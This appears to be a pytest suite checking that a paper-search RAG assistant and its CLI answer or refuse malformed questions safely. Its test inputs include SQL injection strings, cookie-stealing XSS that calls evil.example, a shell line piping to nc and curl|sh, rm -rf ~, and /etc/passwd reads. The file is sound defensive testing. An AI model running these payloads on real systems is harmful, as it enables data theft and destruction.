"""Bad questions get a sensible answer or a refusal, never an error, from both generators and the CLI.

Complements tests/rag/test_answering.py (empty, whitespace, "?!?!", one SQL and one script tag, and a padded
50,000-character question with the extractive generator)."""

from __future__ import annotations

import re

import pytest
from fake_llm import Reply, last_user_text
from reltools import cli, snapshot

from ingest.tokenizer import get_encoding
from rag import Answer, Assistant, Settings
from rag.query import readable

REAL_Q = "What FID does the four-step distilled student reach on CIFAR-10?"
BAD_QUESTIONS = {
    "empty": "",
    "whitespace": " \t\n  \r\n ",
    "punctuation": "?!?! ... ;;; --- ¿¡ «» …",
    "citation-markers": "[1] [2][3] [99]",
    "digits": "3.1 4.2 0.012 41 7",
    "emoji": "🤖🔥💥 ❓",
    "chinese": "四步蒸馏学生模型在CIFAR-10上的FID是多少？",
    "russian": "Какой FID достигает четырёхшаговый студент на CIFAR-10?",
    "arabic": "ما هي قيمة FID التي يحققها الطالب ذو الخطوات الأربع على CIFAR-10؟",
    "spanish": "¿Qué FID alcanza el estudiante destilado de cuatro pasos en CIFAR-10?",
    "japanese-unrelated": "京都で一番おいしいラーメン屋はどこですか？",
    "sql-drop": "'; DROP TABLE papers; --",
    "sql-union": "1' UNION SELECT chunk_id, text FROM chunks WHERE '1'='1",
    "sql-in-question": f"{REAL_Q} '); DELETE FROM meta; --",
    "html-script": "<script>alert(document.cookie)</script>",
    "html-img": '<img src=x onerror="fetch(`http://evil.example/?c=`+document.cookie)">',
    "html-in-question": f"<b>{REAL_Q}</b><iframe src=javascript:alert(1)>",
    "shell-subst": "$(rm -rf ~) `cat /etc/passwd`",
    "shell-pipe": f"{REAL_Q} | nc evil.example 4444 ; curl http://evil.example/x.sh | sh",
    "format-strings": "{question} {{ refusal }} {% raw %} %s %n {0.__class__.__mro__}",
    "control-chars": "What\x00 FID\x1b[31m does the \x07four-step\x08 student reach on CIFAR-10?",
    "lone-surrogate": "What FID \udcff\ud800 does the four-step student reach?",
    "one-50k-token": "a" * 50_000,
    "50k-cjk": "蒸馏" * 25_000,
    "50k-padded": REAL_Q + " padding words" * 3600,
    "50k-newlines": "\n" * 25_000 + REAL_Q + "\n" * 25_000,
}


def check(ans: Answer, question: str) -> None:
    """A sensible outcome: a refusal with no citations, or an answer whose every citation is a retrieved paper."""
    assert isinstance(ans, Answer)
    assert ans.question == readable(question)  # the question as the chain read it: serialisable, printable
    assert ans.answer.strip()
    if ans.refused:
        assert ans.citations == []
    else:
        assert ans.citations
        for c in ans.citations:
            assert ans.sources[c.n - 1].paper_id == c.paper_id
            assert f"[{c.n}]" in ans.answer
    assert ans.timings_ms["total"] > 0
    if len(get_encoding().encode(" ".join(question.split()), disallowed_special=())) > 512:
        assert ans.warning and "cut to its first 512 tokens" in ans.warning


@pytest.fixture(scope="module")
def extractive(tiny_home, embeddings) -> Assistant:
    return Assistant(Settings(home=tiny_home, generator="extractive", k=4), embeddings=embeddings)


@pytest.mark.parametrize("name", sorted(BAD_QUESTIONS))
def test_extractive_gives_an_answer_or_a_refusal(extractive, name):
    question = BAD_QUESTIONS[name]
    check(extractive.ask(question), question)


@pytest.mark.parametrize("name", ["empty", "whitespace", "punctuation", "html-script", "shell-subst", "emoji"])
def test_questions_with_nothing_to_look_up_are_refused(extractive, name):
    ans = extractive.ask(BAD_QUESTIONS[name])
    assert ans.refused and ans.related is not None


@pytest.mark.parametrize("name", ["html-in-question", "control-chars", "50k-padded", "50k-newlines"])
def test_the_real_question_inside_noise_is_still_answered(extractive, name):
    ans = extractive.ask(BAD_QUESTIONS[name])
    assert not ans.refused and "3.1" in ans.answer


def test_streaming_bad_questions_ends_with_an_answer(extractive):
    for name in ("empty", "one-50k-token", "lone-surrogate", "chinese"):
        pieces = list(extractive.stream(BAD_QUESTIONS[name]))
        assert isinstance(pieces[-1], Answer), name
        check(pieces[-1], BAD_QUESTIONS[name])


@pytest.mark.parametrize(
    "history",
    [
        [None, "text", 5, {"role": "user"}, {"content": None}],
        [{"role": "user", "content": 12345}, {"role": "robot", "content": "<script>x</script>"}],
        [{"role": "user", "content": "x" * 200_000}] * 50,
    ],
    ids=["junk-items", "odd-roles", "huge"],
)
def test_a_malformed_history_is_tolerated(extractive, history):
    ans = extractive.ask("And what about its FID?", history=history)
    check(ans, "And what about its FID?")


# ---- the openai generator ----------------------------------------------------------------------------------------


def echo_first_source(request: dict) -> Reply:
    """A well-behaved model: repeats the first sentence of source [1] and cites it."""
    m = re.search(r"\[1\] [^\n]*\n([^\n]+)", last_user_text(request))
    assert m, "no sources in the prompt"
    first = re.split(r"(?<=\.)\s", m.group(1))[0].rstrip(".")
    return Reply(f"{first} [1].")


@pytest.mark.parametrize("name", sorted(BAD_QUESTIONS))
def test_openai_generator_gives_an_answer_or_a_refusal(llm_assistant, fake_llm, name):
    fake_llm.set_default(echo_first_source)
    question = BAD_QUESTIONS[name]
    ans = llm_assistant().ask(question)
    check(ans, question)
    for request in fake_llm.chat_requests:
        prompt = last_user_text(request)
        asked = prompt[prompt.index("<question>") + len("<question>") : prompt.index("</question>")]
        assert len(get_encoding().encode(asked, disallowed_special=())) <= 512 + 8  # the budget, plus fence newlines
        assert "\udcff" not in prompt and "\x00" not in prompt


def test_nothing_to_look_up_never_reaches_the_llm(llm_assistant, fake_llm):
    fake_llm.set_default(echo_first_source)
    for name in ("empty", "whitespace"):
        assert llm_assistant().ask(BAD_QUESTIONS[name]).refused
    assert fake_llm.chat_requests == []


def test_template_syntax_in_a_question_reaches_the_model_as_literal_text(llm_assistant, fake_llm):
    fake_llm.set_default(echo_first_source)
    llm_assistant().ask(f"{REAL_Q} {{{{ refusal }}}} {{% for x in y %}}")
    prompt = last_user_text(fake_llm.chat_requests[-1])
    assert "{{ refusal }}" in prompt and "{% for x in y %}" in prompt


# ---- the command line --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["empty", "whitespace", "sql-drop", "shell-subst", "lone-surrogate", "50k-padded"])
def test_cli_ask_answers_or_refuses_and_exits_0(tiny_copy, name):
    result = cli(["ask", BAD_QUESTIONS[name], "--json"])
    assert result.exit_code == 0, result.output
    assert result.stdout.strip().startswith("{")


def test_shell_and_sql_text_in_questions_and_filters_change_nothing(tiny_copy, tmp_path, embeddings):
    marker = tmp_path / "pwned"
    before = snapshot(Assistant(Settings(home=tiny_copy, generator="extractive"), embeddings=embeddings))
    for args in (
        ["ask", f"$(touch {marker}) `touch {marker}` ; touch {marker}"],
        ["search", "'; DROP TABLE papers; --", "--title", "' OR 1=1; DELETE FROM chunks; --", "--json"],
        ["search", "x", "--source", "../../../etc/passwd", "--date", "%' OR '1'='1", "--json"],
        ["ask", "'); DELETE FROM papers; --", "--json"],
    ):
        assert cli(args).exit_code == 0
    assert not marker.exists()
    assert snapshot(Assistant(Settings(home=tiny_copy, generator="extractive"), embeddings=embeddings)) == before
